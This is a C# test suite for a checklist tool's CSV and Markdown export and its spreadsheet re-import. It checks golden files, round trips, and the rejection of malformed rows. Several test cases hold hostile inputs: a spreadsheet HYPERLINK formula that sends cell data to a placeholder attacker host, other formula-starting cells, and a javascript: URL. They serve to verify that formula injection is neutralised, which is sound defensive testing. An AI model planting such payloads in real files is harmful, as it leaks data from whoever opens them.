using KnowledgeBase.Storage;
using System.Text;
using KnowledgeBase.Requirements;
using KnowledgeBase.Stacks;
using KnowledgeBase.Tests.Support;

namespace KnowledgeBase.Tests.Stacks;

/// <summary>
/// Checklist exports as golden files, and the spreadsheet coming back in. After an intended change to an export,
/// run the tests with KB_UPDATE_GOLDEN=1 and review the diff of the golden files.
/// </summary>
public class ChecklistSheetTests
{
    private static readonly GapCatalog Catalog = GapReportTests.Catalog with
    {
        Requirements = GapReportTests.Catalog.Requirements.Select(r => r with { Statement = $"The platform shall do {r.Title.ToLowerInvariant()}." }).ToList(),
    };

    private static List<ChecklistItem> Items() =>
    [
        new() { StackSlug = "s", RequirementCode = "INF-01", Status = ChecklistStatus.Done, Owner = "Ana", Evidence = "https://example.org/ci?run=1&x=2" },
        new() { StackSlug = "s", RequirementCode = "INF-02", Status = ChecklistStatus.InProgress, Owner = "Platform team", Note = "Waiting for \"quota\",\nthen the rest." },
        new() { StackSlug = "s", RequirementCode = "MOD-01", Status = ChecklistStatus.NotApplicable, Note = "Uses *their* registry_v2 <internal>" },
        new() { StackSlug = "s", RequirementCode = "MOD-02", Status = ChecklistStatus.Todo },
    ];

    private static List<ChecklistLine> Lines(IEnumerable<ChecklistItem>? items = null)
    {
        var report = GapReport.For(Catalog, [new ToolPick("docker", "containers"), new ToolPick("notebook", "registry")]);
        return Checklist.Lines(Catalog, report, items ?? Items());
    }

    private static readonly HashSet<string> Codes = ["INF-01", "INF-02", "MOD-01", "MOD-02"];

    private static void Golden(string name, string actual)
    {
        var path = Path.Combine(Repository.Root, "tests", "KnowledgeBase.Tests", "Stacks", "golden", name);
        if (Environment.GetEnvironmentVariable("KB_UPDATE_GOLDEN") == "1")
            File.WriteAllText(path, actual);
        Assert.That(File.Exists(path), $"golden file {name} is missing; run with KB_UPDATE_GOLDEN=1");
        Assert.That(actual, Is.EqualTo(File.ReadAllText(path)));
    }

    private static (List<ChecklistUpdate> Updates, List<string> Errors) Import(string csv)
    {
        var (updates, errors) = ChecklistSheetImport.Read(Encoding.UTF8.GetBytes(csv), "checklist.csv", Codes);
        return (updates, errors.Select(e => e.ToString()).ToList());
    }

    [Test]
    public void The_csv_export_has_the_documented_columns_with_hints_in_layer_order() =>
        Golden("checklist.csv", ChecklistSheet.Csv(Lines()));

    [Test]
    public void The_markdown_export_is_a_task_list_grouped_by_layer_with_done_items_ticked() =>
        Golden("checklist.md", ChecklistSheet.Markdown("Small *stack*", Lines()));

    [Test]
    public void Export_then_import_then_export_is_lossless()
    {
        var csv = ChecklistSheet.Csv(Lines());
        var (updates, errors) = Import(csv);
        Assert.That(errors, Is.Empty);

        var fresh = Items().Select(i => new ChecklistItem { StackSlug = i.StackSlug, RequirementCode = i.RequirementCode }).ToList();
        var changed = ChecklistSheetImport.Apply(updates, fresh.ToDictionary(i => i.RequirementCode));
        Assert.That(changed, Is.EqualTo(3), "MOD-02 was todo with nothing else set already");
        Assert.That(ChecklistSheet.Csv(Lines(fresh)), Is.EqualTo(csv));
    }

    [Test]
    public void A_spreadsheet_saved_with_a_bom_crlf_and_edited_cells_updates_status_owner_note_and_evidence()
    {
        var csv = "\uFEFF" + ChecklistSheet.Csv(Lines()).Replace("\n", "\r\n", StringComparison.Ordinal)
            .Replace("MOD-02,Tracking and registry,The platform shall do tracking and registry.,models,could,todo,,,", "MOD-02,Tracking and registry,The platform shall do tracking and registry.,models,could,Done,Bo,Shipped,https://example.org/pr/7", StringComparison.Ordinal);
        var (updates, errors) = Import(csv);
        Assert.That(errors, Is.Empty);
        Assert.That(updates.Single(u => u.Code == "MOD-02"), Is.EqualTo(new ChecklistUpdate("MOD-02", ChecklistStatus.Done, "Bo", "Shipped", "https://example.org/pr/7")));
        Assert.That(updates.Single(u => u.Code == "INF-02").Note, Is.EqualTo("Waiting for \"quota\",\nthen the rest."), "line breaks in a cell come back as LF");
    }

    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

    /// <summary>Every cell of a CSV text, read back by a plain reader as a spreadsheet would see it.</summary>
    private static List<string> Cells(string csv)
    {
        using var reader = new CsvHelper.CsvReader(new StringReader(csv), System.Globalization.CultureInfo.InvariantCulture);
        var cells = new List<string>();
        while (reader.Read())
            for (var i = 0; i < reader.Parser.Count; i++) cells.Add(reader.GetField(i)!);
        return cells;
    }

    [TestCase(Formula)]
    [TestCase("=1+1")]
    [TestCase("+1")]
    [TestCase("-1")]
    [TestCase("@SUM(A1:A9)")]
    [TestCase("\t=1+1")]
    [TestCase("\r=1+1")]
    public void A_cell_a_spreadsheet_would_take_for_a_formula_is_exported_as_text(string note)
    {
        var items = Items();
        items[0].Note = note;
        items[1].Owner = note;
        var cells = Cells(ChecklistSheet.Csv(Lines(items)));
        Assert.That(cells, Has.Member("'" + note), "escaped with a leading apostrophe");
        Assert.That(cells.Where(c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal)), Is.Empty, "no cell starts a formula");
    }

    [TestCase(Formula)]
    [TestCase("-x")]
    [TestCase("'=x")]
    [TestCase("''=x")]
    [TestCase("'plain")]
    [TestCase("'")]
    [TestCase("+49 30 1234")]
    [TestCase("@team, see =A1")]
    public void A_note_or_owner_survives_export_and_import_unchanged_however_it_starts(string text)
    {
        var items = Items();
        items[0].Note = text;
        items[0].Owner = text;
        var (updates, errors) = Import(ChecklistSheet.Csv(Lines(items)));
        Assert.That(errors, Is.Empty);
        var update = updates.Single(u => u.Code == items[0].RequirementCode);
        Assert.That((update.Note, update.Owner), Is.EqualTo((text, text)));
    }

    [Test]
    public void A_note_at_its_length_limit_that_starts_like_a_formula_survives_export_and_import()
    {
        var items = Items();
        items[0].Note = "=" + new string('n', FieldLimits.Statement - 1);
        var (updates, errors) = Import(ChecklistSheet.Csv(Lines(items)));
        Assert.That(errors, Is.Empty);
        Assert.That(updates.Single(u => u.Code == items[0].RequirementCode).Note, Is.EqualTo(items[0].Note));
    }

    [Test]
    public void A_note_over_its_length_limit_is_rejected_at_its_line_and_column()
    {
        var (updates, errors) = Import(Header + "INF-01,t,s,infra,must,done,,'" + new string('n', FieldLimits.Statement + 1) + ",,met\n");
        Assert.That(updates, Is.Empty);
        Assert.That(errors.Select(e => e.ToString()), Is.EqualTo(new[] { "checklist.csv:2:8: 'note' has 4,001 characters; the limit is 4,000" }));
    }

    private const string Header = "code,title,statement,layer,priority,status,owner,note,evidence,hint\n";

    [TestCase("INF-01,t,s,infra,must,done,,,,met\nXYZ-99,t,s,infra,must,done,,,,met\n", "checklist.csv:3:1: unknown requirement code 'XYZ-99'")]
    [TestCase("INF-01,t,s,infra,must,finished,,,,met\n", "checklist.csv:2:6: 'finished' is not one of todo, in-progress, done, not-applicable")]
    [TestCase("INF-01,t,s,infra,must,done,,,javascript:alert(1),met\n", "checklist.csv:2:9: 'javascript:alert(1)' is not an http(s) URL")]
    [TestCase("INF-01,t,s,infra,must,done,,,,met\nINF-01,t,s,infra,must,todo,,,,met\n", "checklist.csv:3:1: duplicate 'INF-01' (first on line 2)")]
    [TestCase(",t,s,infra,must,done,,,,met\n", "checklist.csv:2:1: 'code' is empty")]
    [TestCase("INF-01,t,s,infra,must,done,,met\n", "checklist.csv:2: expected 10 cells")]
    public void A_bad_row_is_rejected_with_its_line_and_column_and_nothing_is_updated(string rows, string expected)
    {
        var (updates, errors) = Import(Header + rows + "INF-02,t,s,infra,should,done,Ana,,,partly\n");
        Assert.That(updates, Is.Empty, "a good row is not applied when another row is bad");
        Assert.That(errors, Has.Some.StartsWith(expected), string.Join("\n", errors));
    }

    [Test]
    public void A_missing_column_is_named()
    {
        var (updates, errors) = Import("code,title,statement,layer,priority,owner,note,evidence,hint\nINF-01,t,s,infra,must,,,,met\n");
        Assert.That(updates, Is.Empty);
        Assert.That(errors, Has.Some.StartsWith("checklist.csv:1: missing column 'status'"));
    }

    [Test]
    public void A_sheet_saved_with_semicolons_is_explained()
    {
        var (updates, errors) = Import(ChecklistSheet.Csv(Lines()).Replace(',', ';'));
        Assert.That(updates, Is.Empty);
        Assert.That(errors, Is.EqualTo(new[] { "checklist.csv:1:1: the columns are separated by ';': save the sheet as comma-separated CSV (the format it was exported in)" }));
    }

    [TestCase(new byte[] { 0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0xFF, 0xFE }, "not UTF-8 text")]
    [TestCase(new byte[] { 0x68, 0x69, 0x00, 0x00, 0x01 }, "binary data")]
    [TestCase(new byte[] { }, "the file is empty")]
    [TestCase(new byte[] { 0x3C, 0x68, 0x74, 0x6D, 0x6C, 0x3E, 0x0A }, "missing column 'code'")]
    public void Junk_is_rejected(byte[] content, string expected)
    {
        var (updates, errors) = ChecklistSheetImport.Read(content, "upload.csv", Codes);
        Assert.That(updates, Is.Empty);
        Assert.That(errors.Select(e => e.ToString()), Has.Some.Contains(expected));
    }

    [Test]
    public void A_header_without_rows_is_reported()
    {
        var (updates, errors) = Import(Header);
        Assert.That(updates, Is.Empty);
        Assert.That(errors, Is.EqualTo(new[] { "checklist.csv:2: the file has a header but no rows" }));
    }

    [Test]
    public void A_new_checklist_takes_the_requirements_in_scope_and_keeps_existing_items()
    {
        var all = Checklist.NewItems("s", Catalog.Requirements, ["INF-01"], ChecklistScope.All);
        Assert.That(all.Select(i => i.RequirementCode), Is.EqualTo(new[] { "INF-02", "MOD-01", "MOD-02" }));
        Assert.That(all, Has.All.Matches<ChecklistItem>(i => i.Status == ChecklistStatus.Todo && i.StackSlug == "s"));

        Assert.That(Checklist.NewItems("s", Catalog.Requirements, [], new ChecklistScope(["models"], [], [])).Select(i => i.RequirementCode), Is.EqualTo(new[] { "MOD-01", "MOD-02" }));
        Assert.That(Checklist.NewItems("s", Catalog.Requirements, [], new ChecklistScope([], [Priority.Must], [])).Select(i => i.RequirementCode), Is.EqualTo(new[] { "INF-01", "MOD-01" }));
        Assert.That(Checklist.NewItems("s", Catalog.Requirements, [], new ChecklistScope([], [], ["REGISTRY"])).Select(i => i.RequirementCode), Is.EqualTo(new[] { "MOD-01" }));
    }

    [Test]
    public void Progress_per_layer_is_done_out_of_all_items()
    {
        var progress = Checklist.Progress(Lines());
        Assert.That(progress.Select(p => (p.Layer.Slug, p.Done, p.Total, p.NotApplicable)), Is.EqualTo(new[] { ("infra", 1, 2, 0), ("models", 0, 2, 1) }));
    }
}
